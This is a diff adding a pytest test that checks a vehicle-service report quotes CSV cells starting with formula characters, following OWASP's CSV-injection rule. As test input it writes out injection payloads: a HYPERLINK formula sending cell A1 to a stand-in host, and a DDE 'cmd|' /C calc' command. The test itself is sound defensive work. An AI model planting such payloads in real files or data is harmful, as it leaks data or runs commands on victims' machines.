@@ -130,3 +130,33 @@ def test_the_report_is_self_contained_with_a_chart_and_a_csv_per_table(stores, t
     for name in charts:
         assert (tmp_path / f"{name}.csv").read_text().count("\n") >= 2
     assert "Budi" not in page  # no customer in the report
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_no_csv_cell_runs_as_a_formula_in_a_spreadsheet(clock, tmp_path, start) -> None:
+    """OWASP's CSV injection rule: dealer text starting with a formula character is quoted in
+    every CSV the report writes; numbers (a negative km_apart) stay numbers."""
+    import csv
+
+    raw, cleaned, errors = InMemoryObjectStore(NOW), InMemoryObjectStore(NOW), InMemoryObjectStore(NOW)
+    name = f'{start}HYPERLINK("http://x.example/?"&A1,"Astra")'
+    records = [
+        a_record("SR-1", {"dealer.dealer_name": name, "vehicle.model": f"{start}cmd|' /C calc'!A0"}),
+        a_record(
+            "SR-2",
+            {
+                "dealer.dealer_name": name,
+                "vehicle.model": f"{start}cmd|' /C calc'!A0",
+                "vehicle.odometer_reading": 44_000,
+                "service_details.service_date": "2026-11-21T10:00:00",
+            },
+        ),
+    ]
+    key = "service-records/date=2026-11-21/a.json"
+    raw.put_bytes(key, orjson.dumps(records), metadata={META_INGESTED_AT: "2026-11-21T00:00:00+00:00"})
+    ProcessRawFile(raw, cleaned, errors, clock)(key)
+    write_report(BuildInsights(cleaned, errors)(), tmp_path)
+    cells = [cell for path in tmp_path.glob("*.csv") for row in csv.reader(path.open(newline="")) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
+    assert "'" + name in cells and "'" + f"{start}cmd|' /C calc'!A0" in cells
+    assert {"-1000", "-1000.0"} & set(cells)  # km_apart of the repeat (44,000 after 45,000): a number
